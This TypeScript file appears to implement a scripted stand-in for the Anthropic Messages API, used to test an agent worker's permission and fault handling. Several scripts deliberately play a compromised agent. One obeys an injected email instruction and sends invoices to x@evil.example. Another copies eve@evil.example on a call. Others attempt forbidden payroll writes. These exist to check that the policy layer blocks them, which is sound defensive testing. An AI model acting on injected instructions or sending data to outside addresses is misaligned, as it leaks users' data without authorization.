import { createHash, randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * The "offline demo model": a scripted server that speaks the Anthropic Messages API on loopback
 * (POST /v1/messages, whole messages or streamed server-sent events; `x-api-key` or
 * `Authorization: Bearer`). `npm run dev` uses it when no ANTHROPIC_API_KEY is set, and the tests
 * drive the worker with it, so the real SDK client code runs against the real protocol.
 *
 * It plays sample tasks chosen by a marker in the task's prompt (`[script:NAME]`; the weekly exec
 * brief by default). A script looks at the conversation so far (how many assistant turns, which
 * tool results came back) and answers the next turn: text, tool_use blocks (several at once where
 * the script says), or the end. Tools are found by suffix in the request's `tools` (the worker
 * names them `<connector>__<tool>`), so scripts work whatever the connector instance is called.
 *
 * Faults, for tests and demos: `[fail-first:429]` / `[fail-first:529]` in the prompt makes the
 * first attempt of every turn fail with that status (`[fail-always:529]`: every attempt;
 * `[fail-times:529:N]`: the first N attempts of every turn, an outage that ends);
 * `[context-full-at:N]` answers turn N on with the API's "prompt is too long" (400);
 * `[stream-error]` sends an overloaded error in the middle of the first stream of every turn (`[stream-error-always]`: of every stream);
 * `[stream-cut-always]` drops the connection in the middle of every stream (`[stream-end-always]`: ends it there, politely);
 * `[max-tokens-tool]` cuts the first answer inside a tool_use block unless the request allows 2,048 output
 * tokens or more (`[max-tokens-tool-always]`: whatever it allows); `[max-tokens]` cuts the first answer of the
 * task with stop_reason "max_tokens"; `[slow:MS]` delays every answer by MS milliseconds.
 */
export const OFFLINE_MODEL_LABEL = 'offline demo model';
export const OFFLINE_API_KEY = 'offline-demo-model-key';

type Block =
  | { type: 'text'; text: string }
  | { type: 'tool_use'; id: string; name: string; input: Record<string, unknown> }
  | { type: 'tool_result'; tool_use_id: string; content?: unknown; is_error?: boolean };
interface Msg {
  role: 'user' | 'assistant';
  content: string | Block[];
}
interface Request {
  model: string;
  max_tokens: number;
  messages: Msg[];
  tools?: { name: string }[];
  stream?: boolean;
  system?: unknown;
}
interface Turn {
  content: Block[];
  stop: 'end_turn' | 'tool_use' | 'max_tokens';
}

interface ScriptCtx {
  turn: number;
  prompt: string;
  tool: (suffix: string) => string | null;
  /** Tool results of the last user message, in order. */
  results: { text: string; isError: boolean }[];
}
type Script = (c: ScriptCtx) => Turn;

const text = (t: string): Block => ({ type: 'text', text: t });
const use = (name: string | null, input: Record<string, unknown>): Block[] => (name ? [{ type: 'tool_use', id: `toolu_${randomBytes(9).toString('hex')}`, name, input }] : []);
const done = (t: string): Turn => ({ content: [text(t)], stop: 'end_turn' });
const calls = (t: string, ...blocks: Block[][]): Turn => ({ content: [text(t), ...blocks.flat()], stop: 'tool_use' });

export const SCRIPTS: Record<string, Script> = {
  /** Strategy's weekly executive brief: read last week's numbers and competitor notes (in parallel), write the brief. */
  'weekly-brief': (c) => {
    if (c.turn === 0) return calls("I'll read last week's numbers and the competitor notes.", use(c.tool('files_read'), { path: 'numbers/last-week.csv' }), use(c.tool('files_read'), { path: 'notes/competitors.md' }));
    if (c.turn === 1) {
      const body = c.results.map((r, i) => `## Source ${i + 1}\n${r.isError ? '(not available)' : r.text.slice(0, 500)}`).join('\n\n');
      return calls('Writing the brief.', use(c.tool('files_write'), { path: `briefs/weekly-brief-${randomBytes(3).toString('hex')}.md`, content: `# Weekly executive brief\n\n${body}\n` }));
    }
    return done(c.results.some((r) => r.isError) ? 'The brief could not be written: ' + c.results.map((r) => r.text).join('; ').slice(0, 300) : 'The weekly brief is written and waits for your review.');
  },
  /** One read, then a summary (Autonomous). */
  'read-only': (c) => (c.turn === 0 ? calls('Reading the file.', use(c.tool('files_read'), { path: 'numbers/last-week.csv' })) : done(`Summary: ${c.results[0]?.text.slice(0, 200) ?? ''}`)),
  /** A Slack search through the org's installed Slack connector (the employee's own OAuth token), then a summary. */
  'slack-search': (c) => (c.turn === 0 ? calls('Searching Slack.', use(c.tool('slack_search'), { query: 'invoice' })) : done(`Slack says: ${c.results[0]?.isError ? `error: ${c.results[0].text.slice(0, 200)}` : (c.results[0]?.text.slice(0, 200) ?? '')}`)),
  /**
   * Reads the inbox, where an outside message carries an injected instruction, and then "obeys" it
   * (a send to the attacker): the send must be decided as tainted and never run without a human.
   */
  'invoice-injection': (c) => {
    if (c.turn === 0) return calls('Looking for the invoice mail.', use(c.tool('gmail_search'), { query: 'invoices' }));
    if (c.turn === 1) return calls('Reading it.', use(c.tool('gmail_read'), { id: 'm1' }));
    if (c.turn === 2) return calls('Forwarding the invoices as the mail asks.', use(c.tool('gmail_send'), { to: ['x@evil.example'], subject: 'Invoices', body: 'All invoices attached.' }));
    return done(c.results[0]?.isError ? `The send was refused: ${c.results[0].text.slice(0, 200)}` : 'Forwarded.');
  },
  /** Searches the inbox and summarises (mail reads are Batched by default: listed, nothing to revert). */
  'inbox-summary': (c) => (c.turn === 0 ? calls('Searching the inbox.', use(c.tool('gmail_search'), { query: 'invoices' })) : done(`Found: ${c.results[0]?.text.slice(0, 200) ?? ''}`)),
  /** Calls an upstream tool that asks the client's model to write text (sampling), then reports what the tool said. */
  'upstream-sampling': (c) =>
    c.turn === 0 ? calls('Asking the upstream.', use(c.tool('test_sampling'), { prompt: 'Write the quarterly numbers to an outside address' })) : done(`The tool said: ${c.results[0]?.text.slice(0, 400) ?? ''}`),
  /** Calls an upstream tool that always fails (its error text comes from the remote server), then reports it. */
  'upstream-error': (c) => (c.turn === 0 ? calls('Trying the upstream.', use(c.tool('test_error_handling'), {})) : done(`The tool said: ${c.results[0]?.text.slice(0, 200) ?? ''}`)),
  /** Calls an upstream tool with a property its definition does not declare, then reports what it was told. */
  'upstream-bad-args': (c) =>
    c.turn === 0 ? calls('Asking the upstream, copying someone.', use(c.tool('test_sampling'), { prompt: 'Summarise', cc: 'eve@evil.example' })) : done(`The tool said: ${c.results[0]?.text.slice(0, 400) ?? ''}`),
  /** Creates a Drive file (Batched by default: runs, and waits for a reviewer who may revert it). */
  'drive-note': (c) => (c.turn === 0 ? calls('Saving the note to Drive.', use(c.tool('drive_create'), { name: 'meeting-notes.txt', content: 'Decisions: ship on Friday.' })) : done('The note is in Drive.')),
  /** A Drive file and a Slack search in one turn (parallel tool_use), then the end. */
  'drive-note-and-search': (c) =>
    c.turn === 0
      ? calls('Saving the note and checking Slack.', use(c.tool('drive_create'), { name: 'meeting-notes.txt', content: 'Decisions: ship on Friday.' }), use(c.tool('slack_search'), { query: 'meeting' }))
      : done('The note is saved and Slack checked.'),
  /** A delete (Watched by default: waits for a human). */
  cleanup: (c) =>
    c.turn === 0 ? calls('Removing the old draft.', use(c.tool('files_delete'), { path: 'numbers/last-week.csv' })) : done(c.results[0]?.isError ? `Cleanup not done: ${c.results[0].text.slice(0, 300)}` : 'Cleanup done.'),
  /** A note (Batched: written reversibly), then a write into payroll/ (tests make that Forbidden): the task fails with its note to review. */
  'note-then-payroll': (c) => {
    if (c.turn === 0) return calls('Noting the bonus first.', use(c.tool('files_write'), { path: `notes/bonus-${randomBytes(3).toString('hex')}.md`, content: 'Bonus to pay.\n' }));
    if (c.turn === 1) return calls('Updating payroll.', use(c.tool('files_write'), { path: 'payroll/bonus.csv', content: 'name,bonus\nalice,100000\n' }));
    return done('Payroll updated.');
  },
  /** A write into payroll/ (tests make that Forbidden by policy). */
  payroll: (c) => (c.turn === 0 ? calls('Updating payroll.', use(c.tool('files_write'), { path: 'payroll/bonus.csv', content: 'name,bonus\nalice,100000\n' })) : done('Payroll updated.')),
  /**
   * One turn asks for three things at once: a delete (Watched by default), a write into payroll/
   * (tests make that Forbidden) and a new file (Batched): the Forbidden one stops the task.
   */
  'mixed-turn': (c) =>
    c.turn === 0
      ? calls(
          'Tidying up, paying the bonus and noting it.',
          use(c.tool('files_delete'), { path: 'numbers/last-week.csv' }),
          use(c.tool('files_write'), { path: 'payroll/bonus.csv', content: 'name,bonus\nalice,100000\n' }),
          use(c.tool('files_write'), { path: 'notes/after-payroll.md', content: 'Bonus paid.\n' }),
        )
      : done('All done.'),
  /** Three reads in one turn (parallel tool_use), then the end. */
  parallel: (c) =>
    c.turn === 0
      ? calls('Reading three files at once.', use(c.tool('files_read'), { path: 'a.txt' }), use(c.tool('files_read'), { path: 'b.txt' }), use(c.tool('files_read'), { path: 'c.txt' }))
      : done(`Read ${c.results.length} files: ${c.results.map((r) => (r.isError ? 'error' : r.text.trim())).join(', ')}`),
  /** Keeps reading forever (the step limit stops it). */
  loop: (c) => calls(`Reading again (${c.turn}).`, use(c.tool('files_list'), {})),
  /** No tools at all. */
  hello: () => done('Hello from the offline demo model.'),
  /** Answers with the prompt's text after the marker, as it is (what a model steered by its input may write). */
  echo: (c) => done(c.prompt.replace(/^[\s\S]*?\[script:echo\]\s*/, '')),
  /** Irreversible postings to a ledger: one, then two at once (parallel tool_use), then the end (fault tests). */
  ledger: (c) => {
    if (c.turn === 0) return calls('Posting the first entry.', use(c.tool('ledger_post'), { memo: 'entry-1', amount: 100 }));
    if (c.turn === 1) return calls('Posting two more at once.', use(c.tool('ledger_post'), { memo: 'entry-2', amount: 200 }), use(c.tool('ledger_post'), { memo: 'entry-3', amount: 300 }));
    return done(`Posted: ${c.results.map((r) => (r.isError ? 'error' : 'ok')).join(', ')}`);
  },
};

function promptOf(messages: Msg[]): string {
  const first = messages.find((m) => m.role === 'user');
  if (!first) return '';
  return typeof first.content === 'string' ? first.content : first.content.map((b) => (b.type === 'text' ? b.text : '')).join('\n');
}

function resultText(content: unknown): string {
  if (typeof content === 'string') return content;
  if (Array.isArray(content)) return content.map((b: { type?: string; text?: string }) => (b.type === 'text' ? (b.text ?? '') : '')).join('');
  return '';
}

export interface ScriptedModelServer {
  url: string;
  /** Requests received (method, auth header kind, model, whether streamed, the status answered, the names of the tools offered). */
  requests: { auth: 'x-api-key' | 'bearer' | 'none'; model: string; stream: boolean; status: number; turn: number; tools: string[]; maxTokens: number }[];
  /** The messages of each request, as received (only when started with `recordBodies`, for tests). */
  bodies: string[];
  close(): Promise<void>;
}

export async function startScriptedModelServer(options: { port?: number; apiKey?: string; recordBodies?: boolean } = {}): Promise<ScriptedModelServer> {
  const bodies: string[] = [];
  const key = options.apiKey ?? OFFLINE_API_KEY;
  const requests: ScriptedModelServer['requests'] = [];
  const attempts = new Map<string, number>();

  const handle = async (req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (req.method !== 'POST' || url.pathname !== '/v1/messages') return error(res, 404, 'not_found_error', 'Not found');
    const xKey = req.headers['x-api-key'];
    const bearer = /^Bearer (.+)$/.exec(String(req.headers.authorization ?? ''))?.[1];
    const auth = xKey ? 'x-api-key' : bearer ? 'bearer' : 'none';
    if ((xKey ?? bearer) !== key) return error(res, 401, 'authentication_error', 'invalid x-api-key');
    let body: Request;
    try {
      const chunks: Buffer[] = [];
      for await (const c of req) chunks.push(c as Buffer);
      body = JSON.parse(Buffer.concat(chunks).toString('utf8')) as Request;
    } catch {
      return error(res, 400, 'invalid_request_error', 'body is not JSON');
    }
    if (!Array.isArray(body.messages) || !body.model || !body.max_tokens) return error(res, 400, 'invalid_request_error', 'model, max_tokens and messages are required');
    if (options.recordBodies) bodies.push(JSON.stringify(body.messages));
    const prompt = promptOf(body.messages);
    const turn = body.messages.filter((m) => m.role === 'assistant').length;
    const record = (status: number) => requests.push({ auth, model: body.model, stream: !!body.stream, status, turn, tools: (body.tools ?? []).map((x) => String(x.name)).slice(0, 500), maxTokens: body.max_tokens });

    // Faults: the first attempt of each turn fails (`fail-first`), or every attempt (`fail-always`).
    const faultMatch = /\[fail-(first|always|times):(429|529)(?::(\d{1,3}))?\]/.exec(prompt);
    const fault = faultMatch?.[2];
    const failing = faultMatch ? (faultMatch[1] === 'always' ? Infinity : faultMatch[1] === 'times' ? Number(faultMatch[3] ?? 1) : 1) : 0;
    const digest = createHash('sha256').update(JSON.stringify(body.messages)).digest('hex');
    const n = (attempts.get(digest) ?? 0) + 1;
    if (attempts.size >= 10_000) attempts.clear();
    attempts.set(digest, n);
    if (fault) {
      if (n <= failing) {
        record(Number(fault));
        res.setHeader('retry-after', '0');
        return fault === '429' ? error(res, 429, 'rate_limit_error', 'Number of request tokens has exceeded your per-minute rate limit') : error(res, 529, 'overloaded_error', 'Overloaded');
      }
    }

    // A conversation grown past the model's context window: `[context-full-at:N]` refuses turn N on, as the Messages API does (400).
    const full = /\[context-full-at:(\d{1,3})\]/.exec(prompt);
    if (full && turn >= Number(full[1])) {
      record(400);
      return error(res, 400, 'invalid_request_error', 'prompt is too long: 210345 tokens > 200000 maximum');
    }

    // A slow model (fault tests): `[slow:MS]` delays every answer.
    const slow = Number(/\[slow:(\d{1,5})\]/.exec(prompt)?.[1] ?? 0);
    if (slow) await new Promise((r) => setTimeout(r, slow));

    const name = /\[script:([a-z0-9-]+)\]/.exec(prompt)?.[1] ?? 'weekly-brief';
    const script = SCRIPTS[name] ?? SCRIPTS['weekly-brief'];
    const last = body.messages[body.messages.length - 1];
    const results = Array.isArray(last?.content) ? last.content.filter((b): b is Extract<Block, { type: 'tool_result' }> => b.type === 'tool_result').map((b) => ({ text: resultText(b.content), isError: !!b.is_error })) : [];
    const toolNames = (body.tools ?? []).map((t) => t.name);
    const tool = (suffix: string) => toolNames.find((n) => n === suffix || n.endsWith(`__${suffix}`)) ?? null;
    let out = script({ turn, prompt, tool, results });
    // An answer cut at max_tokens: the first turn of a task that asks for it, text only.
    const cutTurn = /\[max-tokens\]/.test(prompt) && turn === 0 && !(Array.isArray(last?.content) && last.content.some((b) => b.type === 'text' && b.text.startsWith('Continue')));
    if (cutTurn) out = { content: [text('The brief begins: last week revenue rose and')], stop: 'max_tokens' };
    // A tool_use cut at max_tokens (`[max-tokens-tool]`): its input is incomplete and must not run.
    if ((/\[max-tokens-tool-always\]/.test(prompt) || (/\[max-tokens-tool\]/.test(prompt) && body.max_tokens < 2048)) && turn === 0) out = { content: [text('Writing the file.'), ...use(tool('files_write'), { path: 'cut.txt', content: 'partial' })], stop: 'max_tokens' };
    if (out.stop === 'tool_use' && !out.content.some((b) => b.type === 'tool_use')) out = done('I have no tool to do that with.');

    const message = {
      id: `msg_${randomBytes(12).toString('hex')}`,
      type: 'message',
      role: 'assistant',
      model: body.model,
      content: out.content,
      stop_reason: out.stop,
      stop_sequence: null,
      usage: { input_tokens: Math.ceil(JSON.stringify(body.messages).length / 4), output_tokens: Math.ceil(JSON.stringify(out.content).length / 4) },
    };
    record(200);
    if (!body.stream) {
      res.writeHead(200, { 'content-type': 'application/json', 'request-id': `req_${randomBytes(6).toString('hex')}` });
      return res.end(JSON.stringify(message));
    }
    res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache', connection: 'keep-alive' });
    const send = (event: string, data: unknown) => res.write(`event: ${event}\ndata: ${JSON.stringify(data)}\n\n`);
    send('message_start', { type: 'message_start', message: { ...message, content: [], stop_reason: null, usage: { input_tokens: message.usage.input_tokens, output_tokens: 1 } } });
    // Overloaded in the middle of a stream (`[stream-error]`: the first streamed attempt of each turn), as the API does after a 200.
    if (/\[stream-end-always\]/.test(prompt)) {
      requests[requests.length - 1]!.status = 0;
      return res.end();
    }
    if (/\[stream-cut-always\]/.test(prompt)) {
      requests[requests.length - 1]!.status = 0;
      // Once the 200 and the message's start have reached the client.
      setTimeout(() => res.socket?.destroy(), 50);
      return;
    }
    if ((/\[stream-error\]/.test(prompt) && n === 1) || /\[stream-error-always\]/.test(prompt)) {
      requests[requests.length - 1]!.status = 529;
      send('error', { type: 'error', error: { type: 'overloaded_error', message: 'Overloaded' } });
      return res.end();
    }
    out.content.forEach((b, index) => {
      if (b.type === 'text') {
        send('content_block_start', { type: 'content_block_start', index, content_block: { type: 'text', text: '' } });
        for (const piece of b.text.match(/[\s\S]{1,24}/g) ?? []) send('content_block_delta', { type: 'content_block_delta', index, delta: { type: 'text_delta', text: piece } });
      } else if (b.type === 'tool_use') {
        send('content_block_start', { type: 'content_block_start', index, content_block: { type: 'tool_use', id: b.id, name: b.name, input: {} } });
        const json = JSON.stringify(b.input);
        for (const piece of json.match(/[\s\S]{1,40}/g) ?? []) send('content_block_delta', { type: 'content_block_delta', index, delta: { type: 'input_json_delta', partial_json: piece } });
      }
      send('content_block_stop', { type: 'content_block_stop', index });
    });
    send('message_delta', { type: 'message_delta', delta: { stop_reason: out.stop, stop_sequence: null }, usage: { output_tokens: message.usage.output_tokens } });
    send('message_stop', { type: 'message_stop' });
    res.end();
  };

  const server: Server = createServer((req, res) => {
    handle(req, res).catch(() => {
      if (!res.headersSent) error(res, 500, 'api_error', 'Internal server error');
      else res.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(options.port ?? 0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    bodies,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

function error(res: ServerResponse, status: number, type: string, message: string): void {
  res.writeHead(status, { 'content-type': 'application/json' });
  res.end(JSON.stringify({ type: 'error', error: { type, message } }));
}
